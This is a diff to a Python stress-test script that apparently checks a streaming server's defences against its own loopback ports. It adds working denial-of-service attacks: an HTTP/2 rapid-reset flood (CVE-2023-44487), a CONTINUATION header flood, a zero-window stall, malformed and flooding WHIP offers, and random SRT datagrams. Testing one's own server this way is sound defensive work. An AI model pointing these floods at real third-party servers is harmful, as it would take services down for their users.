@@ -5,7 +5,8 @@ from 100 loopback addresses (127.0.2.x) and the checks from 127.0.0.1: a
 flood from one address only ever fills that address's own caps.
 
     python3 tools/hostile.py [--host 127.0.0.1] [--rtmp 1935] [--http 3333]
-                             [--ice-tcp 3478] [--witness live/STREAM]
+                             [--ice-tcp 3478] [--srt 9999] [--https 3334]
+                             [--witness live/STREAM]
                              [--sockets 2000] [--slowloris 600] [--offers 100]
                              [--only ATTACK ...]
 
@@ -19,7 +20,9 @@ import hashlib
 import hmac
 import ipaddress
 import json
+import pathlib
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -340,12 +343,296 @@ def attack_offer_flood(args):
         s.close()
 
 
+# HTTP/2 over TLS (--https): raw frames, so the attacks can send what no
+# well-behaved client library would.
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+
+
+def h2_frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def hpack_get(path, authority="localhost"):
+    """A GET request's header block: :method GET, :scheme https (static
+    table), :authority and :path as literals without indexing."""
+    def literal(index, value):
+        value = value.encode()
+        assert len(value) < 127
+        return bytes([index, len(value)]) + value
+    return b"\x82\x87" + literal(1, authority) + literal(4, path)
+
+
+class H2:
+    """One HTTP/2 connection over TLS from attacking address i."""
+
+    def __init__(self, args, i, settings=b""):
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE  # loopback, the server's own certificate
+        ctx.set_alpn_protocols(["h2"])
+        self.s = ctx.wrap_socket(attacker(args.host, args.https, i, timeout=10), server_hostname="localhost")
+        if self.s.selected_alpn_protocol() != "h2":
+            raise OSError("the server did not agree on HTTP/2 (ALPN)")
+        self.buf = b""
+        self.next_stream = 1
+        self.goaway = None
+        self.closed = False
+        self.send(H2_PREFACE + h2_frame(SETTINGS, 0, 0, settings))
+
+    def send(self, data):
+        self.s.sendall(data)
+
+    def request(self, path, end_stream=True):
+        n = self.next_stream
+        self.next_stream += 2
+        self.send(h2_frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), n, hpack_get(path)))
+        return n
+
+    def read(self, seconds):
+        """Frames that arrive within `seconds` (SETTINGS and PINGs are
+        answered); stops at a GOAWAY or the connection's end."""
+        frames = []
+        deadline = time.time() + seconds
+        while not self.closed and self.goaway is None and time.time() < deadline:
+            self.s.settimeout(max(0.01, deadline - time.time()))
+            try:
+                got = self.s.recv(65536)
+            except socket.timeout:
+                break
+            except (OSError, ssl.SSLError):
+                got = b""
+            if not got:
+                self.closed = True
+                break
+            self.buf += got
+            while len(self.buf) >= 9:
+                length = int.from_bytes(self.buf[:3], "big")
+                if len(self.buf) < 9 + length:
+                    break
+                kind, flags = self.buf[3], self.buf[4]
+                stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
+                payload, self.buf = self.buf[9 : 9 + length], self.buf[9 + length :]
+                frames.append((kind, flags, stream, payload))
+                if kind == SETTINGS and not flags & ACK:
+                    self.send(h2_frame(SETTINGS, ACK, 0))
+                elif kind == PING and not flags & ACK:
+                    self.send(h2_frame(PING, ACK, 0, payload))
+                elif kind == GOAWAY:
+                    self.goaway = struct.unpack(">I", payload[4:8])[0]
+        return frames
+
+    def close(self):
+        try:
+            self.s.close()
+        except OSError:
+            pass
+
+
+H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR", 11: "ENHANCE_YOUR_CALM"}
+
+
+def h2_ending(c):
+    if c.goaway is not None:
+        return f"GOAWAY {H2_ERRORS.get(c.goaway, c.goaway)}"
+    return "closed" if c.closed else "LEFT OPEN"
+
+
+def attack_h2_rapid_reset(args):
+    """CVE-2023-44487: streams opened and cancelled at once, as fast as
+    the client can."""
+    c = H2(args, 0)
+    c.read(1)
+    sent = 0
+    try:
+        while sent < 20000 and c.goaway is None and not c.closed:
+            batch = b""
+            for _ in range(100):
+                n = c.next_stream
+                c.next_stream += 2
+                batch += h2_frame(HEADERS, END_HEADERS | END_STREAM, n, hpack_get("/healthz"))
+                batch += h2_frame(RST_STREAM, 0, n, struct.pack(">I", 8))  # CANCEL
+            c.send(batch)
+            sent += 100
+            c.read(0.01)
+    except OSError:
+        c.closed = True
+    c.read(5)
+    ok = c.goaway is not None or c.closed
+    c.close()
+    check(args, "HTTP/2 rapid reset (20,000 streams opened and cancelled)",
+          f"{h2_ending(c)} after {sent} streams sent", ok=ok and sent < 20000)
+
+
+def attack_h2_continuation(args):
+    """A header block never ended: HEADERS without END_HEADERS, then
+    CONTINUATION frames, up to 1 MB."""
+    c = H2(args, 1)
+    c.read(1)
+    field = b"\x00\x03x-a\x64" + b"v" * 100
+    sent = 0
+    try:
+        c.send(h2_frame(HEADERS, END_STREAM, 1, field))
+        while sent < 1 << 20 and c.goaway is None and not c.closed:
+            c.send(h2_frame(CONTINUATION, 0, 1, field) * 10)
+            sent += 10 * (9 + len(field))
+            c.read(0.01)
+    except OSError:
+        c.closed = True
+    c.read(5)
+    ok = c.goaway is not None or c.closed
+    c.close()
+    check(args, "HTTP/2 CONTINUATION flood (1 MB header block)",
+          f"{h2_ending(c)} after {sent // 1024} KiB sent", ok=ok and sent < 1 << 20)
+
+
+def attack_h2_no_window(args):
+    """Responses granted no flow-control window (SETTINGS
+    INITIAL_WINDOW_SIZE 0), the connection kept busy with a request every
+    300 ms and its pings answered: the server must drop it (its
+    http.send_timeout), not hold the responses for ever."""
+    settings = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
+    conns = [H2(args, 2 + i, settings) for i in range(args.h2_stalled)]
+    for c in conns:
+        for _ in range(16):
+            c.request(args.big_path)
+    start = time.time()
+    while time.time() - start < 90 and any(not c.closed and c.goaway is None for c in conns):
+        for c in conns:
+            if not c.closed and c.goaway is None:
+                try:
+                    c.request("/healthz")
+                except OSError:
+                    c.closed = True
+                c.read(0.3 / len(conns))
+    took = time.time() - start
+    left = sum(1 for c in conns if not c.closed and c.goaway is None)
+    for c in conns:
+        c.close()
+    check(args, f"HTTP/2: {len(conns)} connections x 16 responses given no window, kept busy",
+          f"{len(conns) - left} closed within {took:.0f} s, {left} LEFT OPEN after 90 s" if left
+          else f"all closed within {took:.0f} s", ok=left == 0)
+
+
+def raw_http(args, i, method, path, body=b"", headers=None, timeout=10):
+    """One HTTP/1.1 request from attacking address i: (status, headers
+    as lower-case names, body)."""
+    s = attacker(args.host, args.http, i, timeout=timeout)
+    head = f"{method} {path} HTTP/1.1\r\nHost: {args.host}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n"
+    for k, v in (headers or {}).items():
+        head += f"{k}: {v}\r\n"
+    try:
+        s.sendall(head.encode() + b"\r\n" + body)
+    except OSError:
+        pass  # refused before the body was all sent: read the answer
+    got = b""
+    try:
+        while True:
+            part = s.recv(65536)
+            if not part:
+                break
+            got += part
+    except OSError:
+        pass
+    s.close()
+    head, _, rest = got.partition(b"\r\n\r\n")
+    lines = head.decode(errors="replace").split("\r\n")
+    try:
+        status = int(lines[0].split(" ")[1])
+    except (IndexError, ValueError):
+        return 0, {}, got
+    fields = dict(l.split(": ", 1) for l in lines[1:] if ": " in l)
+    return status, {k.lower(): v for k, v in fields.items()}, rest
+
+
+WHIP_OFFER = pathlib.Path(__file__).resolve().parent.parent / "fuzz/corpus/whip_offer/opus-h264"
+
+
+def attack_whip_bad_offers(args):
+    """Offers no WHIP client would send: each must get a 4xx, not a
+    session, and the server stays healthy."""
+    sdp = {"content-type": "application/sdp"}
+    cases = [
+        ("not SDP", b"GET / HTTP/1.1\r\n\r\n" * 10, sdp),
+        ("SDP without media", b"v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n", sdp),
+        ("a 1 MB offer", b"v=0\r\n" + b"a=x-junk:" + b"x" * (1 << 20) + b"\r\n", sdp),
+        ("an offer as JSON", b'{"sdp": "v=0"}', {"content-type": "application/json"}),
+        ("invalid UTF-8", b"v=0\r\n\xff\xfe\xfd\r\n", sdp),
+    ]
+    answers = []
+    for i, (name, body, headers) in enumerate(cases):
+        status = raw_http(args, 10 + i, "POST", "/live/hostile-whip/whip", body, headers)[0]
+        answers.append(f"{name}: {status or 'no answer'}")
+    ok = all(400 <= int(a.rsplit(": ", 1)[1]) < 500 for a in answers if not a.endswith("no answer"))
+    ok = ok and not any(a.endswith("no answer") for a in answers)
+    check(args, "WHIP: malformed offers", "; ".join(answers), ok=ok)
+
+
+def attack_whip_flood(args):
+    """Valid offers (a browser's) from one address, never connected:
+    each would hold an ICE/DTLS session; the per-address cap refuses
+    the rest with 429. The sessions made are deleted after."""
+    offer = WHIP_OFFER.read_bytes()
+    made, refused, other = [], 0, {}
+    for n in range(args.whip_offers):
+        status, headers, _ = raw_http(args, 40, "POST", f"/live/hostile-whip-{n}/whip", offer,
+                                      {"content-type": "application/sdp"})
+        if status == 201:
+            made.append(headers.get("location", ""))
+        elif status == 429:
+            refused += 1
+        else:
+            other[status] = other.get(status, 0) + 1
+    for location in made:
+        if location.startswith("/"):
+            raw_http(args, 40, "DELETE", location)
+    capped = refused > 0 and len(made) < args.whip_offers
+    check(args, f"WHIP: {args.whip_offers} offers from one address, never connected",
+          f"{len(made)} sessions made, {refused} refused with 429, other {other or 'none'}"
+          + ("" if capped else " (NOT CAPPED)"), ok=capped)
+
+
+def attack_srt_garbage(args):
+    """Datagrams no SRT peer would send, and handshake-shaped ones with
+    nonsense fields, at the SRT port from 100 addresses."""
+    import random
+    rng = random.Random(7)
+    sent = 0
+    socks = []
+    for i in range(100):
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.bind((f"127.0.2.{1 + i}", 0))
+        socks.append(u)
+    for n in range(args.srt_datagrams):
+        if n % 2:
+            data = rng.randbytes(rng.randrange(1, 1500))
+        else:
+            # A control packet (handshake, type 0) with random fields.
+            data = struct.pack(">HHIII", 0x8000, 0, rng.getrandbits(32), rng.getrandbits(32), 0)
+            data += rng.randbytes(rng.choice([0, 16, 48, 64, 200]))
+        try:
+            socks[n % 100].sendto(data, (args.host, args.srt))
+            sent += 1
+        except OSError:
+            pass
+    for u in socks:
+        u.close()
+    check(args, f"SRT: {args.srt_datagrams} malformed datagrams from 100 addresses", f"{sent} sent")
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     p.add_argument("--host", default="127.0.0.1")
     p.add_argument("--rtmp", type=int, default=1935)
     p.add_argument("--http", type=int, default=3333)
     p.add_argument("--ice-tcp", type=int, default=3478)
+    p.add_argument("--srt", type=int, default=9999, help="the SRT port (UDP); 0: no SRT attack")
+    p.add_argument("--srt-datagrams", type=int, default=20000)
+    p.add_argument("--whip-offers", type=int, default=30)
+    p.add_argument("--https", type=int, help="the HTTPS port (HTTP/2 by ALPN): the HTTP/2 attacks need it")
+    p.add_argument("--big-path", default="/vendor/hls.min.js", help="a large response, for the HTTP/2 window attack")
+    p.add_argument("--h2-stalled", type=int, default=20, help="connections in the HTTP/2 window attack")
     p.add_argument("--witness", help="app/stream of a live stream that must stay served")
     p.add_argument("--sockets", type=int, default=2000)
     p.add_argument("--slowloris", type=int, default=600)
@@ -357,6 +644,9 @@ def main():
     args.sockets = min(args.sockets, 5000)
     args.slowloris = min(args.slowloris, 2000)
     args.offers = min(args.offers, 1000)
+    args.h2_stalled = max(1, min(args.h2_stalled, 90))
+    args.srt_datagrams = min(args.srt_datagrams, 200000)
+    args.whip_offers = min(args.whip_offers, 200)
     for attack in [
         attack_deep_amf,
         attack_oversized_header,
@@ -366,8 +656,20 @@ def main():
         attack_slowloris,
         attack_idle_sockets,
         attack_never_publish,
+        attack_whip_bad_offers,
+        attack_whip_flood,
+        attack_srt_garbage,
+        attack_h2_rapid_reset,
+        attack_h2_continuation,
+        attack_h2_no_window,
     ]:
         if args.only and attack.__name__.removeprefix("attack_") not in args.only:
+            continue
+        if attack.__name__.startswith("attack_h2") and not args.https:
+            print(f"NOT RUN {attack.__name__}: no --https port given", flush=True)
+            continue
+        if attack.__name__.startswith("attack_srt") and not args.srt:
+            print(f"NOT RUN {attack.__name__}: --srt 0", flush=True)
             continue
         try:
             attack(args)
